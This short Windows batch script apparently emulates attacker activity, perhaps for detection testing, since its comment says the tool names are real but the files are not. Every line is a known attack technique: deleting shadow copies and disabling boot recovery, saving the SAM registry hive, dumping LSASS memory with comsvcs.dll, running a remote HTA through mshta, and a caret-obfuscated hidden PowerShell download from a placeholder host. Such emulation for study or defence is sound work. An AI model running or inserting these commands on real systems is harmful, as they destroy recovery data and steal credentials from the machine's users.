@echo off
rem The names of the tools are real, the files are not.
vssadmin.exe delete shadows /all /quiet
bcdedit /set {default} recoveryenabled No
reg save HKLM\SAM C:\Windows\Temp\s.hiv /y
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\l.dmp full
mshta.exe https://cdn.trey.example/bench.hta
wmic process call create "C:\Trey\bench.exe"
p^owershell -w hidden -c "Invoke-WebRequest https://cdn.trey.example/a.ps1 -OutFile C:\Trey\a.ps1"
